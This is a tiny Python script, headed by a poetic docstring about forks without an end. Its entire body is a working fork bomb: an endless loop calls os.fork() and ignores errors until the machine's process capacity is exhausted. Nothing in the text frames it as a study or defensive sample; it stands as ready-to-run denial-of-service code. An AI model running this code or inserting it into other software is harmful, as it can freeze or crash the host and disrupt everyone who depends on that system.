"""Forks without an end: whoever has ended is followed by others, and none of them serves."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
